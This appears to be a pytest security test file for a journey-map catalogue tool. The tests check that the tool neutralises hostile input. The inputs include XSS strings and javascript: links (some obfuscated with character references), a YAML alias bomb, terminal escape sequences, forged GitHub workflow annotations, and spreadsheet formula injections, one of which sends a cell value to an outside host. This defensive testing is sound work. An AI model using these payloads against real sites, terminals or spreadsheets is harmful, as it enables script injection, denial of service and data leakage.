        "segment": "B2B",
        "industry": "Testing",
        "personas": ["olga"],
        "owner": "QA",
        "updated": "2026-10-01",
        "sources": [{"id": "s", "type": "survey", "title": "Survey"}],
        "stages": [
            {"name": "Only", "steps": [{"action": "Acts", "pains": [{"text": "P", "sources": ["s"]}]}]}
        ],
    }
    front.update(changes)
    return front


@pytest.mark.parametrize("url", BAD_URLS + GOOD_URLS, ids=repr)
def test_source_and_image_urls_allow_only_web_mail_and_relative_links(tmp_path, url):
    source = {"id": "s", "type": "survey", "title": "Survey", "url": url}
    root = write_catalogue(tmp_path, {"m": small_map(sources=[source])}, {"olga": {**PERSONA, "image": url}})
    catalogue = load_catalogue(root, base=tmp_path, today=TODAY)
    found = {(p.file, p.field): p for p in catalogue.errors}
    if url in GOOD_URLS:
        assert found == {}, [str(p) for p in catalogue.errors]
        return
    assert set(found) == {("journeys/maps/m.md", "sources[0].url"), ("journeys/personas/olga.md", "image")}
    for problem in found.values():
        assert problem.message.startswith("expected an http(s), mailto or relative link, got ")
        assert problem.line > 1 and problem.column > 1


BODY = """Text <script>window.__xss=1</script> and <b class="raw-ok">bold</b>.

<div class="raw-block">block</div>

[js](javascript:alert(1)) [mixed](JaVaScRiPt:alert(1)) [tab](java\tscript:alert(1)) [vb](vbscript:x)
[data](data:text/html,x) ![img](javascript:alert(1)) [web](https://example.org/) [rel](../x.pdf)

[ref][r]

[r]: javascript:alert(1)
"""


@pytest.mark.parametrize("allow_raw_html", [False, True])
def test_markdown_bodies_show_raw_html_as_text_unless_allowed(tmp_path, allow_raw_html):
    project = tmp_path / "project"
    write_catalogue(project, {"m": small_map()}, {"olga": PERSONA}, bodies={"m": BODY, "olga": BODY})
    (project / "docs").mkdir()
    (project / "docs" / "index.md").write_text("# Home\n")
    config = {
        "site_name": "Bodies",
        "theme": {"name": "material", "custom_dir": str(ROOT / "theme_overrides"), "font": False},
        "plugins": ["search", {"journeys": {"today": "2026-11-23", "allow_raw_html": allow_raw_html}}],
    }
    (project / "mkdocs.yml").write_text(yaml.safe_dump(config))
    build_site(project / "mkdocs.yml", tmp_path / "site", "http://127.0.0.1:8000/")
    for path in ("maps/m/index.html", "personas/olga/index.html"):
        text = (tmp_path / "site" / path).read_text(encoding="utf-8")
        start = text.index("Text ")
        body = text[start : text.index("<h2", start)]
        if allow_raw_html:
            assert "<script>window.__xss=1</script>" in body
            assert '<b class="raw-ok">bold</b>' in body and '<div class="raw-block">block</div>' in body
        else:
            assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in body and "<script>" not in body
            assert "&lt;b class=&quot;raw-ok&quot;&gt;" in body or '&lt;b class="raw-ok"&gt;' in body
            assert "raw-block" in body and '<div class="raw-block">' not in body
        # Markdown links with unsafe schemes lose their href in both modes; safe ones keep it
        anchors = re.findall(r"<a( [^>]*)?>(js|mixed|tab|vb|data|web|rel|ref)</a>", body)
        hrefs = {label: re.findall(r'href="([^"]*)"', attrs or "") for attrs, label in anchors}
        assert hrefs == {
            "js": [],
            "mixed": [],
            "tab": [],
            "vb": [],
            "data": [],
            "web": ["https://example.org/"],
            "rel": ["../x.pdf"],
            "ref": [],
        }
        assert '<img alt="img">' in body


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript&#58;alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java&#x09;script:alert(1))",
        "![x](javascript&#58;alert(1))",
        "[x][r]\n\n[r]: javascript&#x3a;alert(1)",
    ],
)
def test_character_references_cannot_smuggle_a_javascript_link(markdown):
    rendered = BodyRenderer().render(markdown)
    for value in re.findall(r'(?:href|src)="([^"]*)"', rendered):
        # what the browser sees once it decodes the attribute
        assert is_safe_link(html.unescape(value)), f"{markdown!r} -> {rendered}"


@pytest.mark.browser
def test_character_reference_javascript_link_is_not_clickable_in_the_browser(chromium):
    rendered = BodyRenderer().render("[click me](javascript&#58;window.__xss=1)")
    context = chromium.new_context()
    page = context.new_page()
    try:
        page.set_content(f"<!doctype html><body>{rendered}</body>")
        protocol = page.eval_on_selector("a", "a => a.href ? new URL(a.href).protocol : ''")
        page.click("a")
        page.wait_for_timeout(200)
        assert protocol != "javascript:" and page.evaluate("() => typeof window.__xss") == "undefined"
    finally:
        context.close()


def test_is_safe_link_judges_what_browsers_ignore():
    for url in BAD_URLS:
        assert not is_safe_link(url), repr(url)
    for url in GOOD_URLS:
        assert is_safe_link(url), repr(url)


# -- limits ----------------------------------------------------------------------------------------


def _frontmatter_map(tmp_path: Path, extra_yaml: str) -> tuple[Path, Path]:
    root = write_catalogue(tmp_path, {}, {"olga": PERSONA})
    text = yaml.safe_dump(small_map(), sort_keys=False)
    path = root / "maps" / "m.md"
    path.write_text(f"---\n{text}{extra_yaml}---\n", encoding="utf-8")
    return root, path


def test_a_yaml_alias_bomb_is_refused_in_bounded_work_and_memory(tmp_path):
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for n in range(1, 10):
        lines.append(f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 10) + "]")  # 10**10 values expanded
    root, path = _frontmatter_map(tmp_path, "extra:\n" + "".join(f"  {line}\n" for line in lines))
    # Not a timing target (those live in the benchmark): expanding 10**10 values would never end, so
    # finishing at all, with however much slack a loaded CI machine needs, shows the expansion is cut off.
    result: list = []

    def load() -> None:
        result.append(load_catalogue(root, base=tmp_path, today=TODAY))

    worker = threading.Thread(target=load, daemon=True)
    worker.start()
    worker.join(timeout=60)
    assert not worker.is_alive(), "loading an alias bomb did not finish within 60 s"
    (catalogue,) = result
    tracemalloc.start()  # measured on a second run: tracemalloc itself slows Python down several times
    try:
        again = load_catalogue(root, base=tmp_path, today=TODAY)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"
    assert again.problems == catalogue.problems
    (problem,) = catalogue.errors
    assert problem.file == "journeys/maps/m.md" and problem.field == "extra"
    assert "expands to more than 100,000 values" in problem.message
    extra_line = path.read_text().splitlines().index("extra:") + 1
    assert extra_line <= problem.line <= extra_line + len(lines) and problem.column >= 1


@pytest.mark.parametrize("style", ["block", "flow"])
def test_deep_nesting_is_a_located_error(tmp_path, style):
    depth = 40
    if style == "block":
        nested = (
            "extra:\n"
            + "".join(f"{'  ' * (i + 1)}k{i}:\n" for i in range(depth))
            + f"{'  ' * (depth + 1)}v\n"
        )
    else:
        nested = "extra: {x: " + "[" * depth + "1" + "]" * depth + "}\n"
    root, path = _frontmatter_map(tmp_path, nested)
    catalogue = load_catalogue(root, base=tmp_path, today=TODAY)
    (problem,) = catalogue.errors
    assert problem.file == "journeys/maps/m.md"
    assert "nested more than 24 levels deep" in problem.message
    lines = path.read_text().splitlines()
    assert 2 <= problem.line <= len(lines) and problem.column >= 1
    if style == "block":
        assert problem.field.startswith("extra.k0.k1") and lines[problem.line - 1].strip().startswith("k2")


@pytest.mark.parametrize(
    "change,field,message",
    [
        (
            {"tags": [f"t{i}" for i in range(201)]},
            "tags",
            "expected at most 200 items, got a list of 201 items",
        ),
        (
            {"stages": [{"name": f"S{i}", "steps": [{"action": "a"}]} for i in range(41)]},
            "stages",
            "expected at most 40 items, got a list of 41 items",
        ),
        (
            {"stages": [{"name": "S", "steps": [{"action": f"a{i}"} for i in range(41)]}]},
            "stages[0].steps",
            "expected at most 40 items, got a list of 41 items",
        ),
        (
            {"stages": [{"name": "S", "needs": ["n"] * 201, "steps": [{"action": "a"}]}]},
            "stages[0].needs",
            "expected at most 200 items, got a list of 201 items",
        ),
    ],
)
def test_long_lists_are_located_errors(tmp_path, change, field, message):
    root = write_catalogue(tmp_path, {"m": small_map(**change)}, {"olga": PERSONA})
    catalogue = load_catalogue(root, base=tmp_path, today=TODAY)
    (problem,) = catalogue.errors
    assert (problem.file, problem.field, problem.message) == ("journeys/maps/m.md", field, message)
    lines = (root / "maps" / "m.md").read_text().splitlines()
    key = field.split(".")[-1].split("[")[0]
    assert lines[problem.line - 2].strip().startswith(f"{key}:") or lines[
        problem.line - 1
    ].lstrip().startswith(("- ", f"{key}:")), lines[problem.line - 1]
    assert problem.column >= 1


# -- the build and the CLI leave sources alone; output is deterministic ------------------------------


def tree_hash(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(path.relative_to(folder).as_posix().encode())
        if path.is_file():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def run_cli(argv: list[str]) -> tuple[int, str]:
    """`journeys ARGV` in-process: (exit code, stdout and stderr together)."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        try:
            code = main(argv)
        except SystemExit as exit_:  # argparse's --help and usage errors
            code = exit_.code
    return code, out.getvalue()


def source_files(project: Path) -> dict[str, bytes]:
    return {
        p.relative_to(project).as_posix(): p.read_bytes()
        for name in ("journeys", "docs")
        for p in sorted((project / name).rglob("*"))
        if p.is_file()
    }


# Commands that only read: they must leave journeys/ and docs/ byte-identical.
READ_ONLY_COMMANDS = {"validate", "list", "show", "export", "insights", "diff", "review"}
# Commands that create a new map: they may add exactly that one file, and touch nothing else.
CREATING_COMMANDS = {"new", "import"}
# Commands that scaffold: they may add files, never change one that exists.
SCAFFOLDING_COMMANDS = {"init"}
NOT_COVERED = {
    "fetch-echarts": "downloads ECharts with npm; it writes only into the package's assets",
    # Zensical runs no plugin, so these write the catalogue's pages into docs/journeys/ and nothing else:
    # tests/test_engines.py snapshots the whole tree around them.
    "generate": "writes only its output folder, docs/journeys/ (tests/test_engines.py)",
    "build": "generate, then the engine's own build into site/ (tests/test_engines.py)",
    "serve": "generate, then the engine's own preview (docs/engines.md)",
}


def test_help_lists_every_command_and_this_file_covers_each():
    code, text = run_cli(["--help"])
    assert code == 0
    for name in COMMANDS:
        assert name in text
    uncovered = (
        set(COMMANDS) - READ_ONLY_COMMANDS - CREATING_COMMANDS - SCAFFOLDING_COMMANDS - set(NOT_COVERED)
    )
    assert uncovered == set(), f"new commands: add them to the source-tree tests below: {uncovered}"


def test_the_build_and_read_only_commands_never_write_into_journeys_or_docs(tmp_path):
    project = _copy_hostile(tmp_path / "project")
    before = source_files(project)
    assert before and tree_hash(project / "journeys") and tree_hash(project / "docs")
    build_site(project / "mkdocs.yml", project / "site", "http://127.0.0.1:8000/")
    assert (project / "site" / "maps" / "per-persona-journey" / "index.html").is_file()
    assert source_files(project) == before, "mkdocs build wrote into journeys/ or docs/"
    config = ["--config", str(project / "mkdocs.yml")]
    runs = [
        (["validate", *config], {0}),
        (["validate", "--strict", *config], {0}),
        (["validate", "--format", "github", *config, str(project / "journeys" / "maps")], {0}),
        (["validate", "--root", str(project / "journeys"), "--config", str(tmp_path / "none.yml")], {1}),
        (["list", *config], {0}),
        (["list", "--templates", "--tag", SCRIPT, *config], {0}),
        (["insights", *config], {0}),
        (["insights", "--format", "json", *config, str(project / "journeys" / "maps")], {0}),
        (["insights", "--format", "csv", "--section", "opportunities", *config], {0}),
        (
            ["export", "per-persona-journey", "--format", "json", "-o", str(tmp_path / "out.json"), *config],
            {0},
        ),
        (
            [
                "export",
                "per-persona-journey",
                "--format",
                "csv",
                "-o",
                str(project / "journeys" / "x.csv"),
                *config,
            ],
            {2},
        ),
        (
            [
                "export",
                "looping-journey",
                "--format",
                "mermaid",
                "-o",
                str(project / "docs" / "x.mmd"),
                *config,
            ],
            {2},
        ),
    ]
    runs += [(["show", m, *config], {0}) for m in MAP_IDS]
    runs += [(["diff", m, *config], {1}) for m in MAP_IDS]  # outside git: one line, exit 1
    runs += [(["review", "--base", "main", *config], {1})]  # outside git too
    runs += [
        (["export", m, "--format", f, *config], {0}) for m in MAP_IDS for f in ("json", "csv", "mermaid")
    ]
    for argv, codes in runs:
        code, output = run_cli(argv)
        assert code in codes, f"{argv}: exit {code}\n{output[-2000:]}"
        assert source_files(project) == before, f"journeys {' '.join(argv[:2])} wrote into journeys/ or docs/"
    assert json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))
    assert {argv[0] for argv, _ in runs} == READ_ONLY_COMMANDS


def test_init_into_an_existing_catalogue_adds_files_and_changes_none(tmp_path):
    project = _copy_hostile(tmp_path / "project")
    before = source_files(project)
    others = {p: p.read_bytes() for p in project.rglob("*") if p.is_file()}
    code, output = run_cli(["init", str(project)])
    assert code == 1 and source_files(project) == before, output  # not empty: refused
    code, output = run_cli(["init", "--force", str(project)])
    assert code == 0, output
    assert {k: v for k, v in source_files(project).items() if k in before} == before
    assert all(path.read_bytes() == content for path, content in others.items()), "init changed a file"
    assert f"kept    {project / 'mkdocs.yml'}" in output


def test_creating_commands_add_one_file_and_change_nothing_else(tmp_path):
    project = _copy_hostile(tmp_path / "project")
    config = ["--config", str(project / "mkdocs.yml")]
    code, csv_text = run_cli(["export", "per-persona-journey", "--format", "csv", *config])
    assert code == 0
    (tmp_path / "in.csv").write_text(csv_text, encoding="utf-8")
    code, mermaid_text = run_cli(["export", "looping-journey", "--format", "mermaid", *config])
    assert code == 0
    (tmp_path / "in.mmd").write_text(mermaid_text, encoding="utf-8")
    for argv, created in (
        (["new", "from-template", "--from", "template-journey", "--title", SCRIPT, *config], "from-template"),
        (["import", "csv", str(tmp_path / "in.csv"), "--id", "from-csv", *config], "from-csv"),
        (["import", "mermaid", str(tmp_path / "in.mmd"), "--id", "from-mermaid", *config], "from-mermaid"),
    ):
        before = source_files(project)
        code, output = run_cli(argv)
        assert code == 0, output
        after = source_files(project)
        added = set(after) - set(before)
        assert added == {f"journeys/maps/{created}.md"}, added
        assert {k: v for k, v in after.items() if k in before} == before, (
            f"{argv[0]} changed existing sources"
        )
        # run again: the file exists, so nothing at all may change
        code, output = run_cli(argv)
        assert code == 1 and source_files(project) == after, output


HOSTILE_TITLES = [
    SCRIPT,
    "a\nstatus: published",
    "x\n---\ntemplate: true",
    "'quoted' \"double\" # not a comment",
    "key: value",
    "- item",
    JINJA + " {a|x}",
    "&anchor *alias !tag %directive @at `back",
    "|",
    "null",
    "2026-01-01",
    "a\n  b: c",
    "\u202e right-to-left",
]


@pytest.mark.parametrize("title", HOSTILE_TITLES, ids=repr)
def test_new_writes_any_title_as_exactly_that_text(tmp_path, title):
    project = _copy_hostile(tmp_path / "project")
    code, output = run_cli(
        [
            "new",
            "fresh",
            "--from",
            "template-journey",
            "--title",
            title,
            "--config",
            str(project / "mkdocs.yml"),
        ]
    )
    assert code == 0, output
    catalogue = load_catalogue(
        project / "journeys", channels=site_channels(), base=project, today=dt.date.today()
    )
    assert [str(p) for p in catalogue.errors] == []
    fresh = catalogue.maps["fresh"].meta
    assert (fresh.title, fresh.status, fresh.template) == (title, "draft", False)


# -- what the terminal and CI logs see ---------------------------------------------------------------

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _injecting_catalogue(root: Path) -> Path:
    """A catalogue whose values smuggle newlines and terminal escapes into what the CLI prints."""
    forged = "x\n::error file=README.md,line=1::Forged annotation\x1b]0;title\x07\x1b[2J"
    front = small_map(
        personas=["olga", forged],
        stages=[
            {
                "name": "Only",
                "next": ["nowhere\n::stop-commands::pause"],
                "steps": [{"action": "Acts", "touchpoints": ["web\n::add-mask::secret"]}],
            }
        ],
    )
    front["x\n::warning::forged key"] = 1
    journeys = write_catalogue(root, {"m": front}, {"olga": PERSONA})
    (journeys / "maps" / "bad\n::notice::forged file name.md").write_text("---\ntitle: x\n---\n")
    return journeys


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_validate_output_cannot_forge_workflow_commands_or_terminal_escapes(tmp_path, monkeypatch, fmt):
    _injecting_catalogue(tmp_path)
    monkeypatch.chdir(tmp_path)  # problems name files relative to the working directory, as in CI
    code, output = run_cli(["validate", "--format", fmt, "--root", "journeys", "--config", "none.yml"])
    assert code == 1
    lines = output.splitlines()
    summary = lines.pop()
    assert summary.startswith("2 maps, 1 persona: ")
    for line in lines:
        own_annotation = fmt == "github" and line.startswith(
            ("::error file=journeys/", "::warning file=journeys/")
        )
        assert line.startswith("journeys/") or own_annotation, f"a forged line: {line!r}"
        assert not CONTROL.search(line), f"a control character reaches the terminal: {line!r}"


@pytest.mark.parametrize("command", ["list", "show"])
def test_list_and_show_print_no_terminal_escapes(tmp_path, command):
    """Control characters in text are refused by validation, and no command prints them raw."""
    escape = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x1b[8mhidden\x1b[0m\x9b31m"
    front = small_map(title=f"Title{escape}")
    front["stages"][0]["steps"][0]["action"] = f"Acts{escape}"
    journeys = write_catalogue(tmp_path, {"m": front}, {"olga": PERSONA})
    config = ["--root", str(journeys), "--config", str(tmp_path / "none.yml")]
    code, output = run_cli(["validate", *config])
    assert code == 1
    assert "title: expected text without control characters, got 'Title\\x1b]52;" in output
    argv = [command] + (["m"] if command == "show" else [])
    code, output = run_cli(argv + config)
    assert code == (0 if command == "list" else 1), output
    assert not CONTROL.search(output.replace("\n", "")), repr(output[:300])


def test_csv_export_neutralises_spreadsheet_formulas(tmp_path):
    formulas = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
    front = small_map()
    front["stages"][0]["steps"] = [{"action": f, "thought": f} for f in formulas]
    journeys = write_catalogue(tmp_path, {"m": front}, {"olga": PERSONA})
    code, output = run_cli(
        ["export", "m", "--format", "csv", "--root", str(journeys), "--config", str(tmp_path / "none.yml")]
    )
    assert code == 0, output
    cells = [cell for row in csv.reader(io.StringIO(output.removeprefix("\ufeff"))) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_two_builds_of_the_hostile_catalogue_are_byte_identical(hostile_site, tmp_path):
    again = tmp_path / "again"
    build_site(hostile_site["catalogue"] / "mkdocs.yml", again, hostile_site["url"])
    compared = 0
    for first in generated_html(hostile_site["site"]):
        second = again / first.relative_to(hostile_site["site"])
        assert first.read_bytes() == second.read_bytes(), first
        compared += 1
    for download in (hostile_site["site"] / "templates").glob("*.md"):
        assert download.read_bytes() == (again / "templates" / download.name).read_bytes()
        source = HOSTILE / "journeys" / "maps" / download.name
        if not source.exists():  # a packaged starter template
            source = STARTERS_ROOT / "maps" / download.name
        assert download.read_bytes() == source.read_bytes()
    assert compared == len(PAGES) + 1  # and the home page


# -- measured metrics: labels from mkdocs.yml, figures from journeys/metrics/ -------------------------


def metric_labels() -> dict[str, str]:
    config = yaml.safe_load((HOSTILE / "mkdocs.yml").read_text(encoding="utf-8"))
    (options,) = [p["journeys"] for p in config["plugins"] if isinstance(p, dict) and "journeys" in p]
    return {metric_id: spec["label"] for metric_id, spec in options["metrics"].items()}


def test_metric_labels_stay_text_in_the_table_and_round_trip_in_the_chart(hostile_site):
    labels = metric_labels()
    assert any("<script>" in label for label in labels.values())
    text = (hostile_site["site"] / "maps" / "per-persona-journey" / "index.html").read_text(encoding="utf-8")
    for label in labels.values():
        assert f'<span class="jc-metric">{html.escape(label, quote=False)}</span>' in text.replace(
            "&#34;", '"'
        ).replace("&#39;", "'")
    assert "jc-divergent--better" in text and "jc-divergent--worse" in text  # both figures reach the page
    (raw,) = re.findall(r"data-jc-chart='([^']*)'", text)
    assert "<" not in raw and ">" not in raw and "'" not in raw
    options = join(COMMON, json.loads(html.unescape(raw)))["options"]
    drawn = {s["jcMetric"]: s["name"] for s in options["series"] if "jcMetric" in s}
    assert drawn == labels
    assert [a["name"] for a in options["yAxis"][2:]] == list(labels.values())
    insights = (hostile_site["site"] / "insights" / "index.html").read_text(encoding="utf-8")
    assert html.escape(labels["csat"], quote=False) in insights  # the divergences table names it


def test_hostile_metrics_rows_get_printable_messages_and_no_traceback(tmp_path, monkeypatch, capsys):
    catalogue = _copy_hostile(tmp_path / "catalogue")
    (catalogue / "journeys" / "metrics" / "bad.csv").write_text(
        f"map,step,metric,period,value,sample\n{SCRIPT},\x1b[2J1.1,\u202ecsat,{JINJA},{WINDOW_XSS},-1\n",
        encoding="utf-8",
    )
    monkeypatch.chdir(catalogue)
    code = main(["validate"])
    out, err = capsys.readouterr()
    assert code == 1 and "Traceback" not in out + err
    lines = [line for line in out.splitlines() if line.startswith("journeys/metrics/bad.csv:2:")]
    assert len(lines) == 5, lines  # map, metric, period, value and sample: every problem at once
    assert all("\x1b" not in line for line in lines)


@pytest.mark.browser
@pytest.mark.parametrize("map_id", MAP_IDS)
def test_the_editor_keeps_payloads_as_values_and_runs_none(hostile_page, hostile_site, map_id):
    """The editor fills its form from a hostile map: each text is a field's value, nothing in it runs or
    loads, and the file comes back exactly as written."""
    page, watch, requests = hostile_page
    page.goto(hostile_site["url"] + f"editor/?map={map_id}")
    page.wait_for_selector("[data-jc-editor-download]")
    source = (HOSTILE / "journeys" / "maps" / f"{map_id}.md").read_text(encoding="utf-8")
    assert page.evaluate("() => jcEditor.serialise()") == source
    title = site_catalogue().maps[map_id].meta.title
    assert page.input_value('[data-jc-path="title"] input') == title
    # the page's data travels as JSON that is never run: the one inline script beside Material's
    data = page.locator("script[data-jc-editor-data]")
    assert data.get_attribute("type") == "application/json"
    allowed = sorted(
        allowed_inline_scripts(hostile_site["site"]) + [normalise_inline_script(data.text_content())]
    )
    # a change makes the editor write the form back into the page (problems, preview, links)
    page.fill('[data-jc-path="title"] input', title + " " + SCRIPT)
    page.wait_for_timeout(300)
    assert_page_is_clean(page, watch, requests, allowed, f"editor/?map={map_id}")
